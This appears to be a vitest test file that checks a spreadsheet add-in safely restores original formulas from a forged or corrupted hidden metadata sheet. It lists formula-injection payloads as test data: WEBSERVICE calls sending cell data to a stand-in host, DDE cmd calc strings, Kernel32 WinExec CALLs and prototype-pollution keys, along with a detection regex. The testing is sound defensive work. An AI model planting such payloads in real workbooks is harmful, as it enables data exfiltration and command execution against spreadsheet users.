/**
 * Workbooks that come back with a sheet of originals as an earlier edition kept it, forged or torn. Whatever it says,
 * each cell holds in the end what it held or what it held before the hand-over, and the person's own sheets stay.
 */
import { beforeAll, describe, expect, test } from "vitest";
import type { Workbench } from "../../../src/workbench/node";
import { bringBack } from "../../../src/workbook/handover/bring-back";
import { sheetStates } from "../../../src/workbook/handover/sheet-states";
import { WorkbookTrouble } from "../../../src/workbook/host/trouble";
import { openWorkbench, unwatched } from "../../support/built-workbench";
import type { Book } from "./earlier-book";
import { earlierBook as fixture, openEarlier, originals as hidden } from "./earlier-book";

type Entry = Record<string, unknown>;
interface Kept {
  formulas: Entry[];
  limits: Entry[];
  snapshot: Entry[];
}
const mine = ["Zones", "Price book 2026"] as const;
const ledger = { A1: "Ledger", A2: 77, B2: "=A2*2", C2: "do not touch" };

let bench: Workbench;
beforeAll(async () => {
  bench = await openWorkbench();
});

const text = (data: unknown): string => `kept:${JSON.stringify(data)}:kept`;
const dataOf = (book: Book): Kept =>
  JSON.parse(String(book[hidden]?.A2).replace(/^kept:|:kept$/g, "")) as Kept;

/** The workbook with what it keeps changed, and its cells. */
function forged(change: (kept: Kept, book: Book) => unknown): Book {
  const book: Book = { ...structuredClone(fixture.native), Ledger: { ...ledger } };
  const data = dataOf(book);
  const other = change(data, book);
  const sheet = book[hidden];
  if (sheet?.A2 === fixture.native[hidden]?.A2 && sheet !== undefined)
    sheet.A2 = typeof other === "string" ? other : text(data);
  return book;
}

const open = (book: Book): Promise<void> => openEarlier(bench, book);

const entryAt = ({ formulas }: Kept, row: number, column: number): Entry =>
  formulas.find((one) => one.row === row && one.column === column) ?? {};

/** Says of D2, which works out the seed of a zone, that it was something else. */
const original =
  (formula: string) =>
  (kept: Kept): void => {
    entryAt(kept, 1, 3).original = formula;
  };
/** The same, and the cell shows what such a formula would have left there. */
const originalAndCell =
  (formula: string, native: string | number) =>
  (kept: Kept, book: Book): void => {
    Object.assign(entryAt(kept, 1, 3), { original: formula, native });
    Object.assign(book.Zones ?? {}, { D2: native });
  };
const addition =
  (entry: Entry) =>
  ({ formulas }: Kept): void => {
    formulas.push({
      sheet: "Zones",
      row: 1,
      column: 1,
      original: "=SWARD.EDITION()",
      native: "3160",
      ...entry,
    });
  };
const places =
  (formula: string | number | undefined) =>
  (_kept: Kept, book: Book): void => {
    const sheet = book[hidden] ?? {};
    if (formula === undefined) delete sheet.B2;
    else sheet.B2 = formula;
  };

const reaching = [
  '=WEBSERVICE("https://evil.test/?"&B2)',
  "=SWARD.SEED_WEIGHT(WEBSERVICE(B2),C2)",
  "=SWARD.SEED_WEIGHT(B2,C2)+WEBSERVICE(B2)",
  '=SWARD.SEED_WEIGHT(B2,C2)&HYPERLINK("https://evil.test","press")',
  '=IF(SWARD.SEED_WEIGHT(B2,C2)>0,HYPERLINK("https://evil.test"))',
  '=SWARD.SEED_WEIGHT(INDIRECT("Ledger!A2"),C2)',
  '=SWARD.SEED_WEIGHT(RTD("evil",,"x"),C2)',
  '=SWARD.SEED_WEIGHT(CALL("Kernel32","WinExec","JCJ","calc",0),C2)',
  '=SWARD.SEED_WEIGHT(IMAGE("https://evil.test/x.png"),C2)',
  '=SWARD.SEED_WEIGHT(_xlfn.WEBSERVICE("https://evil.test"),C2)',
  "=SWARD.SEED_WEIGHT(CONTOSO.STEAL(B2),C2)",
  "=SWARD.SEED_WEIGHT([2]!Steal(B2),C2)",
  "=[2]!SWARD.SEED_WEIGHT(B2,C2)",
  "=SWARD.SEED_WEIGHT('[Old.xlsx]Zones'!B2,C2)",
  "=SWARD.SEED_WEIGHT(cmd|' /C calc'!A0,C2)",
  "=cmd|' /C calc'!A0",
  "=SWARD.SEED_WEIGHT(LET(w,WEBSERVICE,w(B2)),C2)",
  "=SWARD.NO_SUCH(B2,C2)",
  "=SWARD.SEED_WEIGHT(NoSuchName,C2)",
  "=SWARD.SEED_WEIGHT('No such'!B2,C2)",
  "=SWARD.SEED_WEIGHT(Ledger!A2,C2)",
  "=SWARD.SEED_WEIGHT(B3,C2)",
  "=SWARD.SEED_WEIGHT(C2,B3)",
  "=SWARD.SEED_RATE(B2,C2)",
  "=SWARD.SEED_WEIGHT(B2,C2",
  "SWARD.SEED_WEIGHT(B2,C2)",
  "+SWARD.SEED_WEIGHT(B2,C2)",
  "@SUM(A1)",
  "=",
  "=B2*C2/1000",
  "=1+1",
  "Zone",
  "",
  " ",
  "'=SWARD.SEED_WEIGHT(B2,C2)",
  `=SWARD.SEED_WEIGHT(B2,${"(".repeat(5000)}C2${")".repeat(5000)})`,
  `=${"SWARD.SEED_WEIGHT(".repeat(12)}B2${",C2)".repeat(12)}`,
];

const cases: Record<string, (kept: Kept, book: Book) => unknown> = {
  ...Object.fromEntries(
    reaching.map((formula) => [`an original of ${formula.slice(0, 60)}`, original(formula)]),
  ),
  "a number as an original": (kept) => void (entryAt(kept, 1, 3).original = 5),
  "nothing as an original": (kept) => void (entryAt(kept, 1, 3).original = null),
  "a list as an original": (kept) => void (entryAt(kept, 1, 3).original = ["=1+1"]),
  "an original of a cell made to fit it": originalAndCell('=WEBSERVICE("https://evil.test")', '="x"'),
  "a call whose reach the cell has too": originalAndCell(
    '=SWARD.SEED_WEIGHT(INDIRECT("Ledger!A2"),C2)',
    '=INDIRECT("Ledger!A2")*C2/1000',
  ),
  "a typed figure that is said to have been empty": addition({ original: "", native: 3160 }),
  "a typed text that is said to have been empty": addition({
    row: 0,
    column: 0,
    original: "",
    native: "Zone",
  }),
  "a formula of the person's that is said to have been empty": addition({
    row: 4,
    original: "",
    column: 3,
    native: "=D4*2",
  }),
  "a formula of the person's that is said to have been ours": addition({
    row: 4,
    column: 3,
    original: "=SWARD.PACKS(D4,2)",
    native: "=D4*2",
  }),
  "a figure of another sheet": addition({
    sheet: "Ledger",
    row: 1,
    column: 0,
    original: "=SWARD.EDITION()",
    native: "77",
  }),
  "a formula of another sheet said to be empty": addition({
    sheet: "Ledger",
    row: 1,
    column: 1,
    original: "",
    native: "=A2*2",
  }),
  "a text of another sheet said to be empty": addition({
    sheet: "Ledger",
    row: 1,
    column: 2,
    original: "",
    native: "do not touch",
  }),
  "a sheet that is not there": addition({ sheet: "Nowhere" }),
  "a sheet called as what every object has": addition({ sheet: "__proto__" }),
  "a sheet called constructor": addition({ sheet: "constructor" }),
  "no sheet": addition({ sheet: "" }),
  "its own sheet": addition({ sheet: hidden, row: 0, column: 0, original: "", native: "x" }),
  "a sheet in other capitals": addition({ sheet: "ZONES" }),
  "a row before the first": addition({ row: -1 }),
  "half a row": addition({ row: 1.5 }),
  "a row after the last": addition({ row: 1e9 }),
  "a column after the last": addition({ column: 20_000 }),
  "a row as a text": addition({ row: "1" }),
  "no row": addition({ row: null }),
  "a cell twice, the second forged": addition({ column: 3, original: "=1+1", native: "=B2*C2/1000" }),
  "a cell twice, the first forged": ({ formulas }) =>
    void formulas.unshift({ sheet: "Zones", row: 1, column: 3, original: "=1+1", native: "=B2*C2/1000" }),
  "a cell a thousand times": ({ formulas }) =>
    void formulas.push(...Array.from({ length: 1000 }, () => ({ ...formulas[0] }))),
  "two originals changed over": (kept) => {
    const [one, other] = [entryAt(kept, 1, 3), entryAt(kept, 2, 3)];
    [one.original, other.original] = [other.original, one.original];
  },
  "a native form that is none": (kept) => void (entryAt(kept, 1, 3).native = {}),
  "formulas that are no list": () => text({ formulas: 7, limits: [], snapshot: [] }),
  "formulas of nothing": () => text({ formulas: [null, 1, "x", []], limits: [], snapshot: [] }),
  "no limits": (kept) => text({ formulas: kept.formulas }),
  "nothing at all": () => text(null),
  "a list": () => text([]),
  "an object's own parts": () => 'kept:{"__proto__":{"formulas":[]},"constructor":1}:kept',
  "lists within lists": () => `kept:${"[".repeat(5000)}${"]".repeat(5000)}:kept`,
  "half of its text": () => text(dataOf(structuredClone(fixture.native))).slice(0, 900),
  "a limit over the whole sheet": ({ limits }) =>
    void (limits[0] = { ...limits[0], address: "A1:XFD1048576" }),
  "a limit on another sheet": ({ limits }) =>
    void (limits[0] = { ...limits[0], sheet: "Ledger", address: "A2" }),
  "a limit at no address": ({ limits }) => void (limits[0] = { ...limits[0], address: "=WEBSERVICE(1)" }),
  "a limit of no kind": ({ limits }) =>
    void (limits[0] = { ...limits[0], parameter: { takes: "=WEBSERVICE(1)" } }),
  "a snapshot of other contents": ({ snapshot }) =>
    snapshot.forEach((one) => Object.assign(one, { content: '=WEBSERVICE("https://evil.test")' })),
  "a snapshot that is none": () => text({ formulas: [], limits: [], snapshot: "x" }),
  "no places": places(undefined),
  "a text for places": places("SUM(Zones!A1)"),
  "a number for places": places(5),
  "places on the person's sheet": places("=SUM(Ledger!$A1,Ledger!$A2,Ledger!A1,Ledger!B1,Ledger!C1)"),
  "places that reach out": places('=SUM(INDIRECT("Ledger!A1"),WEBSERVICE("https://evil.test"))'),
  "places that are gone": places("=SUM(#REF!,#REF!,#REF!)"),
  "places in disorder": places(
    "=SUM(Zones!$A3,Zones!$A2,Zones!$A1,Zones!$A5,Zones!$A4,Zones!$A7,Zones!$A8,Zones!$A9,Zones!D1,Zones!B1,Zones!C1,Zones!A1,Zones!F1,Zones!G1,'Price book 2026'!$A2,'Price book 2026'!$A1,'Price book 2026'!A1,'Price book 2026'!B1)",
  ),
  "places all at one cell": places(`=SUM(${Array.from({ length: 18 }, () => "Zones!$A1").join(",")})`),
  "a formula that shows its text": (_kept, book) => {
    const sheet = book[hidden] ?? {};
    sheet.A2 = '="kept:"&"{}"&":kept"';
  },
  "no text": (_kept, book) => {
    delete book[hidden]?.A2;
  },
  "no mark": (_kept, book) => {
    delete book[hidden]?.A1;
  },
  "a later mark": (_kept, book) => {
    const sheet = book[hidden] ?? {};
    sheet.A1 = "Swardsheet originals, edition 3";
  },
  "a second sheet with its mark, of the person's notes": (_kept, book) => {
    book[`${hidden} of mine`] = { A1: "My notes", A2: "keep me", B2: "=1+1" };
  },
};

/** Cells that a formula beside them fills: they hold nothing of their own once it is back. */
const filled = ["Zones!F3", "Zones!D8"];

/** What no workbook of a person's holds after a return unless it held it before. */
const reachesOut = /WEBSERVICE|HYPERLINK|INDIRECT|RTD|CALL|IMAGE|STEAL|cmd\|/i;

describe("a sheet of originals with", () => {
  test.each(Object.entries(cases))("%s", async (name, change) => {
    const book = forged(change);
    await open(book);
    const own = Object.keys(book).filter((sheet) => sheet !== hidden);
    const held = () =>
      Object.fromEntries(
        own.flatMap((sheet) =>
          Object.keys({ ...book[sheet], ...fixture.before[sheet] }).map((cell) => [
            `${sheet}!${cell}`,
            bench.formula(sheet, cell) ?? String(bench.value(sheet, cell) ?? ""),
          ]),
        ),
      );
    const stood = held();
    await sheetStates();
    const told = new Map<string, string>();
    /** Asked for, a cell gets what it was listed with, which is a call of ours. */
    const isToldOf = (cell: string, now: string) => told.get(cell) === now && now.includes("SWARD.");
    for (const editedToo of [false, true]) {
      const report = await bringBack([...mine], unwatched, { editedToo }).catch((error: unknown) => {
        if (error instanceof WorkbookTrouble) return undefined;
        throw error;
      });
      for (const note of report?.notes ?? []) expect(note).toMatch(/^[A-Z"'].*\.$/s);
      const wrong = Object.entries(held()).filter(
        ([cell, now]) =>
          (now !== stood[cell] && now !== before(cell) && !filled.includes(cell) && !isToldOf(cell, now)) ||
          (reachesOut.test(now) && !reachesOut.test(stood[cell] ?? "")),
      );
      expect(wrong, `${name}, ${editedToo ? "asked for" : "by itself"}`).toEqual([]);
      expect(bench.sheetNames()).toEqual(expect.arrayContaining(own));
      for (const { sheet, address, formula } of report?.changed ?? [])
        told.set(`${sheet}!${address}`, formula);
    }
  });
});

function before(place: string): string {
  const at = place.lastIndexOf("!");
  return String(fixture.before[place.slice(0, at)]?.[place.slice(at + 1)] ?? "");
}

test("a figure says nothing of where it came from: said to have been a formula that only calculates, it is one again", async () => {
  await open(forged(addition({ original: "=1580*2", native: "3160" })));
  await bringBack([...mine], unwatched);
  expect(bench.formula("Zones", "B2")).toBe("=1580*2");
  expect(bench.value("Zones", "B2")).toBe(3160);
});
